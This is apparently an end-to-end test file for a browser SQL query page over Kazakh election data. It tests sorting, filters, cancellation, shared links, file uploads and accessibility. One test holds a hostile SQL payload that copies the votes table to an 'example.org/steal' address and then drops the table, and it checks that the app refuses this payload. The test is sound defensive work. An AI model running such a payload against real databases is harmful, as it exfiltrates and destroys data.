import {describe, expect, test} from "vitest";
import {languages} from "../../src/catalogue/language.js";
import {queryMessagesIn} from "../words/allMessages.js";
import {forest, openLoaded, testFile} from "./loading.js";
import {expectAccessible, type OpenOptions, openPage, type SitePage, siteOrigin} from "./site.js";

const words = queryMessagesIn("en");

/** Opens the page and waits until its first rows, or its editor, are there. */
async function openQuery(
  query = "",
  options: Partial<OpenOptions> & {language?: string} = {},
): Promise<SitePage> {
  const {language = "en", ...rest} = options;
  const page = await openPage({path: `/${language}/query${query}`, ...rest});
  await page.waitForSelector("#rows-result, #sql-text");
  return page;
}

const withSql = (sql: string, besides = ""): string => `?${new URLSearchParams({sql})}${besides}`;

/** Runs what stands in the editor and waits for its answer, or why there is none. */
async function run(page: SitePage): Promise<void> {
  await page.click("#run");
  await answered(page);
}

const answered = (page: SitePage): Promise<unknown> =>
  page.waitForFunction(
    () =>
      document.querySelector<HTMLElement>("#cancel")?.hidden &&
      document.querySelector(".query-answer, .query-fault, .query-note"),
    null,
    {timeout: 40_000},
  );

/** The rows on screen, cell by cell as they are read; the head is the first. */
const rowsOf = (page: SitePage, id = "sql-result"): Promise<string[][]> =>
  page.$$eval(`#${id} [role=row]`, (rows) =>
    rows.map((row) =>
      [...row.querySelectorAll("[role=gridcell], .result-name")].map((cell) => cell.textContent ?? ""),
    ),
  );

const alertOf = async (page: SitePage): Promise<string> =>
  (await page.textContent(".query-sql .query-error")) ?? "";

/** The text in the editor, once the editor has come. */
async function textOf(page: SitePage): Promise<string> {
  await page.waitForSelector(".cm-content");
  const lines = await page.$$eval(".cm-line", (all) => all.map((line) => line.textContent ?? ""));
  return lines.join("\n");
}

const typeSql = async (page: SitePage, sql: string): Promise<void> => {
  await page.click("#sql-text");
  await page.keyboard.press("Control+A");
  await page.keyboard.insertText(sql);
};

describe("Rows come first", () => {
  test("those of the protocols stand there before the database does, with what they rest on", async () => {
    let isHeld = true;
    const page = await openQuery("", {
      prepare: (context) =>
        context.route(/duckdb.*\.wasm/, async (route) => {
          while (isHeld) await new Promise((later) => setTimeout(later, 50));
          await route.continue();
        }),
    });
    const rows = await rowsOf(page, "rows-result");
    expect(rows[0].slice(0, 4)).toEqual(["contest", "basis", "region", "station"]);
    expect(rows[1][1]).toBe("reconstructed");
    expect(await page.textContent(".query-rows")).toContain(words.rows.waits);
    isHeld = false;
    await page.waitForSelector(".facet");
    page.expectClean();
  });

  test("a heading sorts, a counted value narrows, a condition is added and taken away; the address follows", async () => {
    const page = await openQuery("?table=votes");
    await page.waitForSelector(".facet");
    await page.click("#rows-result [role=columnheader]:has-text('votes')");
    await page.waitForURL(/sort=votes/);
    await page.click(".facet summary:has-text('party')");
    await page.click("label:has-text('ak-zhol')");
    await page.waitForURL(/where=party%3Aequal%3Aak-zhol/);
    await page.waitForFunction(() => document.querySelectorAll(".query-chips li").length === 2);
    await page.click("#add-condition summary");
    await page.selectOption("#condition-column", "votes");
    await page.selectOption("#condition-comparison", "at-least");
    await page.fill("#condition-value", "many");
    await page.click("#add-condition [type=submit]");
    expect(await page.textContent("#add-condition .field-error")).toBe(words.rows.notComparable);
    await page.fill("#condition-value", "300");
    await page.click("#add-condition [type=submit]");
    await page.waitForURL(/votes%3Aat-least%3A300/);
    const isNarrowed = (rows: readonly string[][]): boolean =>
      rows.length > 1 &&
      rows.slice(1).every(([, , party, votes]) => party === "ak-zhol" && Number(votes) >= 300);
    await expect.poll(async () => isNarrowed(await rowsOf(page, "rows-result"))).toBe(true);
    const narrowed = await rowsOf(page, "rows-result");
    await page.click("#rows-as-sql");
    expect(await textOf(page)).toContain("votes >= 300");
    await run(page);
    // The heads differ by the arrow of the order.
    expect((await rowsOf(page)).slice(1, 5)).toEqual(narrowed.slice(1, 5));
    page.expectClean();
  });

  test("names stand in the order of the Kazakh alphabet", async () => {
    const page = await openQuery("?table=parties&sort=short_kk");
    const names = async (): Promise<string[]> => {
      const [head, ...rows] = await rowsOf(page, "rows-result");
      const column = head.findIndex((name) => name.startsWith("short_kk"));
      return rows.map((row) => row[column]).filter((name) => /^[\u0400-\u04ff]+$/.test(name));
    };
    await expect
      .poll(
        async () => {
          const all = await names();
          return all.length > 5 && all.every((name, place) => place === 0 || isInOrder(all[place - 1], name));
        },
        {timeout: 30_000},
      )
      .toBe(true);
    // Not that of Unicode, which has Ә and Ұ behind Я.
    const all = await names();
    expect([...all].sort()).not.toEqual(all);
    page.expectClean();
  });
});

const letters = "аәбвгғдеёжзийкқлмнңоөпрстуұүфхһцчшщъыіьэюя";

/** By the alphabet, letter by letter: the browser's own order may lack Kazakh. */
function isInOrder(one: string, other: string): boolean {
  const key = (name: string) =>
    [...name.toLowerCase()].map((letter) => String.fromCharCode(65 + letters.indexOf(letter))).join("");
  return key(one) <= key(other);
}

describe("A query", () => {
  test("runs by the button and by Ctrl-Enter, and says how many rows it found and how long it took", async () => {
    const page = await openQuery(
      withSql("SELECT party, count(*) AS stations FROM votes GROUP BY party ORDER BY party"),
    );
    await run(page);
    expect((await rowsOf(page))[0]).toEqual(["party", "stations"]);
    expect(await page.textContent(".query-answer .result-line")).toMatch(/^\d+ rows in [\d.]+ ms$/);
    await typeSql(page, "SELECT 42 AS answer");
    await page.keyboard.press("Control+Enter");
    await expect.poll(() => rowsOf(page)).toEqual([["answer"], ["42"]]);
    page.expectClean();
  });

  test("that never ends is stopped, and the next one is answered", async () => {
    const page = await openQuery(withSql("SELECT 1 AS warm"));
    await run(page);
    await typeSql(
      page,
      "SELECT count(*) FROM range(1000000) a, range(1000000) b, range(1000) c WHERE a.range + b.range < c.range",
    );
    await page.click("#run");
    await page.waitForSelector("#cancel:not([hidden])");
    await page.waitForTimeout(700);
    await page.click("#cancel");
    await page.waitForFunction(
      (said) => document.querySelector(".query-sql .query-error")?.textContent?.includes(said),
      words.errors.cancelled,
    );
    await typeSql(page, "SELECT 2 AS next");
    await run(page);
    await expect.poll(() => rowsOf(page)).toEqual([["next"], ["2"]]);
    page.expectClean();
  });

  test("that is wrong is told at its line and column, and the cursor goes there", async () => {
    const page = await openQuery(withSql("SELECT party,\n  vots\nFROM votes"));
    await run(page);
    expect(await alertOf(page)).toContain(words.place(2, 3));
    expect(await alertOf(page)).toContain("vots");
    expect(await page.getAttribute(".query-sql .query-error", "role")).toBe("alert");
    expect(await page.$$eval(".cm-fault", (marks) => marks.map((mark) => mark.textContent))).toEqual([
      "vots",
    ]);
    page.expectClean();
  });

  test("with :names has a form, and a place in an error is that of the reader's own text", async () => {
    const page = await openQuery(
      withSql("SELECT count(*) AS n FROM protocols WHERE registered >= :least AND basis = :basis"),
    );
    await page.fill("#value-least", "2900");
    await page.fill("#value-basis", "reconstructed");
    await page.keyboard.press("Enter");
    await answered(page);
    expect(Number((await rowsOf(page))[1][0].replaceAll(",", ""))).toBeGreaterThan(0);
    await page.waitForURL(/with=least%3A2900/);
    await typeSql(page, "SELECT :least, nope");
    await run(page);
    expect(await alertOf(page)).toContain(words.place(1, 16));
    page.expectClean();
  });

  test("is kept in this browser, and goes back into the editor", async () => {
    const page = await openQuery(withSql("SELECT 1 AS first"));
    await run(page);
    await page.reload();
    await page.waitForSelector("#sql-text");
    await typeSql(page, "SELECT 2");
    await page.click("#history summary");
    await page.click("#history .history-item");
    expect(await textOf(page)).toBe("SELECT 1 AS first");
    await page.click("#history .quiet-button");
    expect(await page.textContent("#history")).toContain(words.history.none);
  });

  test("starts afresh: the answer and the database go, the text stays", async () => {
    const page = await openQuery(withSql("SELECT 7 AS seven"));
    await run(page);
    await page.click("#afresh");
    expect(await page.$(".query-answer")).toBeNull();
    expect(await textOf(page)).toBe("SELECT 7 AS seven");
    await run(page);
    expect(await rowsOf(page)).toEqual([["seven"], ["7"]]);
    page.expectClean();
  });
});

describe("A link to a query", () => {
  test.each([
    ["short", "SELECT party, seats\nFROM scenario_seats\nORDER BY seats DESC, party"],
    [
      "5,000 characters long",
      `SELECT party FROM parties WHERE party NOT IN (${Array.from({length: 420}, (_, place) => `'list ${place}'`).join(", ")})`,
    ],
  ])("%s opens the same text elsewhere", async (_, sql) => {
    const page = await openQuery("?threshold=3");
    await page.click("label:has(#mode-sql)");
    await typeSql(page, sql);
    await page.waitForURL(/[?&]sqlz?=/);
    await expect.poll(() => page.url().length).toBeGreaterThan(60);
    const {href} = new URL(page.url());
    await page.waitForTimeout(500);
    const other = await openQuery(new URL(page.url()).search);
    expect(href).toContain("threshold=3");
    expect((await textOf(other)).slice(0, 300)).toBe(sql.slice(0, 300));
    expect(await other.textContent(".query-scenario")).toContain("3%");
    await run(other);
    expect((await rowsOf(other)).length).toBeGreaterThan(1);
    other.expectClean();
  });

  test("does nothing by itself: hostile SQL is refused only when it is run, and the next query works", async () => {
    const asked: string[] = [];
    const page = await openQuery(withSql("COPY votes TO 'https://example.org/steal'; DROP TABLE votes"), {
      prepare: async (context) => context.on("request", (request) => asked.push(request.url())),
    });
    await page.waitForTimeout(1500);
    expect(asked.filter((url) => /duckdb-eh|queryWorker/.test(url))).toEqual([]);
    expect(await page.textContent(".query-sql")).toContain(words.editor.fromLink);
    await run(page);
    expect(await alertOf(page)).toContain(words.errors["several-statements"]);
    await typeSql(page, "SELECT count(*) > 0 AS there FROM votes");
    await run(page);
    expect((await rowsOf(page)).length).toBe(2);
    page.expectClean();
  });

  test("that is damaged opens the rows, says so, and follows the rest", async () => {
    const page = await openQuery("?threshold=3&sqlz=%21%21");
    expect(await page.textContent(".query-scenario")).toContain("3%");
    expect(await page.textContent("main")).toContain(words.editor.notUnpacked);
  });
});

describe("The scenario is in SQL", () => {
  test("and follows its levers: an answer from before says that it is old", async () => {
    const page = await openQuery(
      withSql("SELECT party, seats FROM scenario_seats ORDER BY seats DESC, party LIMIT 1", "&threshold=3"),
    );
    await run(page);
    expect((await rowsOf(page))[1]).toEqual(["nur-otan", "70"]);
    await page.click(".query-scenario summary");
    await page.fill(".query-levers input[id=threshold]", "7");
    await page.keyboard.press("Enter");
    await page.waitForFunction(
      (said) => document.querySelector(".query-answer")?.textContent?.includes(said),
      words.result.stale,
    );
    await run(page);
    expect((await rowsOf(page))[1]).toEqual(["nur-otan", "76"]);
    page.expectClean();
  });

  test("its seats join the stations", async () => {
    const page = await openQuery(
      withSql(
        "SELECT s.party, s.seats, sum(v.votes)::BIGINT AS votes FROM scenario_seats s JOIN votes v USING (contest, party) GROUP BY ALL ORDER BY votes DESC LIMIT 2",
      ),
    );
    await run(page);
    expect((await rowsOf(page))[1]).toEqual(["nur-otan", "76", "5,148,074"]);
  });

  test("draws of the reconstruction are a table when they are asked for", async () => {
    const page = await openQuery(
      withSql("SELECT count(DISTINCT draw) AS draws, bool_and(basis = 'reconstructed') AS all_so FROM draws"),
    );
    await page.click("#make-draws");
    await page.waitForFunction(
      (said) => document.querySelector(".schema-draws")?.textContent?.includes(said),
      words.draws.there,
      {timeout: 50_000},
    );
    await run(page);
    expect((await rowsOf(page))[1][0]).toBe("200");
    page.expectClean();
  });
});

describe("A reader's own data", () => {
  test("loaded protocols are rows of the same tables, and the contest is among them", async () => {
    const loaded = await openLoaded([forest]);
    await loaded.goto(
      `${siteOrigin()}/en/query${withSql("SELECT c.name_en, count(*) AS stations FROM protocols p JOIN contests c USING (contest) WHERE contest LIKE 'loaded-%' GROUP BY ALL")}`,
    );
    await loaded.waitForSelector("#sql-text");
    await run(loaded);
    expect((await rowsOf(loaded))[1]).toEqual(["forest", "40"]);
    loaded.expectClean();
  });

  test("a file becomes a table for this page alone", async () => {
    const page = await openQuery(withSql("SELECT sum(area) AS area FROM my_regions"));
    await page.setInputFiles("#own-files", [
      testFile("My regions.csv", "name,area\nҚызылорда,226\nӨскемен,97\n"),
    ]);
    await page.waitForFunction(() => document.querySelector(".schema")?.textContent?.includes("My_regions"));
    await run(page);
    expect((await rowsOf(page))[1]).toEqual(["323"]);
    await page.setInputFiles("#own-files", [testFile("broken.parquet", "PAR1 and no more")]);
    await page.waitForSelector(".own-faults");
    expect(await page.textContent(".own-faults")).toContain("broken.parquet");
    page.expectClean();
  });

  test("a file dropped on the page is read too", async () => {
    const page = await openQuery(withSql("SELECT count(*) AS n FROM dropped"));
    await page.evaluate(() => {
      const data = new DataTransfer();
      data.items.add(new File(["a,b\n1,2\n3,4\n"], "dropped.csv"));
      for (const type of ["dragover", "drop"])
        dispatchEvent(Object.assign(new Event(type, {cancelable: true}), {dataTransfer: data}));
    });
    await page.waitForFunction(() => document.querySelector(".schema")?.textContent?.includes("dropped"));
    await run(page);
    await expect.poll(async () => (await rowsOf(page))[1]).toEqual(["2"]);
  });
});

describe.each(languages)("in %s", (language) => {
  test("a ready question opens, is run by keyboard alone and shows as a chart", async () => {
    const page = await openQuery("", {language});
    await page.focus("#question-votes-short-of-the-threshold, .question-title");
    await page.keyboard.press("Enter");
    await page.waitForSelector("#sql-text");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("run");
    await page.keyboard.press("Enter");
    await answered(page);
    expect(await page.$(".query-fault")).toBeNull();
    await page.focus("#show-table");
    await page.keyboard.press("ArrowRight");
    await page.waitForSelector(".result-chart");
    await page.waitForURL(/show=chart/);
    page.expectClean();
  });

  test.each([
    ["light", "on a laptop", {width: 1280, height: 720}],
    ["dark", "on a phone", {width: 390, height: 844}],
  ] as const)("axe finds nothing, %s, %s: rows, an error, an answer", async (colorScheme, _, viewport) => {
    const page = await openQuery("", {language, colorScheme, viewport});
    await page.waitForSelector(".facet");
    await expectAccessible(page);
    await page.click("label:has(#mode-sql)");
    await page.waitForSelector(".cm-content");
    await typeSql(page, "SELECT party, nope FROM votes WHERE votes > :least");
    await run(page);
    await expectAccessible(page);
    await typeSql(page, "SELECT party, rank FROM parties");
    await run(page);
    await expectAccessible(page);
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
    page.expectClean();
  });
});
